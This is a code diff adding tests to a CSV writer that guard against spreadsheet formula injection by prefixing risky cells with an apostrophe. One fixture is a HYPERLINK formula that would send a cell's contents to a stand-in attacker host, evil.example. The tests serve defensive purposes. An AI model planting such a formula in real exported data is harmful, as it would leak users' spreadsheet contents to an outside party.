@@ -54,12 +54,26 @@ describe('toCsv', () => {
     assert.equal(toCsv<{ a: number }>([], ['a']), 'a\r\n');
   });
 
-  it('reads back unchanged with an RFC 4180 reader', () => {
+  it('reads back with an RFC 4180 reader: unchanged, but for the quote before a formula', () => {
+    const asWritten = (text: string): string => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
     fc.assert(
       fc.property(fc.array(fc.tuple(fc.string(), fc.string({ unit: 'binary' })), { minLength: 1 }), (pairs) => {
         const rows = pairs.map(([left, right]) => ({ left, right }));
-        assert.deepEqual(parseCsv(toCsv(rows)), [['left', 'right'], ...pairs]);
+        assert.deepEqual(parseCsv(toCsv(rows)), [['left', 'right'], ...pairs.map((pair) => pair.map(asWritten))]);
       }),
     );
+  });
+
+  it('keeps text that a spreadsheet would run as a formula as text', () => {
+    const route = '=HYPERLINK("https://evil.example/?d="&A1,"Details")';
+    const csv = toCsv([{ group: route, model: '@SUM(1+1)', key: '+1', session: '-2+3', trace: '\tx', note: '\r=1', plain: 'a=b' }]);
+    const [, row] = parseCsv(csv);
+    assert.deepEqual(row, [`'${route}`, "'@SUM(1+1)", "'+1", "'-2+3", "'\tx", "'\r=1", 'a=b']);
+    assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")"`), 'guarded, then quoted per RFC 4180');
+  });
+
+  it('leaves numbers as numbers, negative ones included', () => {
+    assert.equal(toCsv([{ cost: -1250, ratio: -0.5, tokens: 0, big: 1e21, ok: false }]), 'cost,ratio,tokens,big,ok\r\n-1250,-0.5,0,1e+21,false\r\n');
+    assert.equal(toCsv([{ cost: '-1250' }]), "cost\r\n'-1250\r\n", 'a number held as text is text');
   });
 });
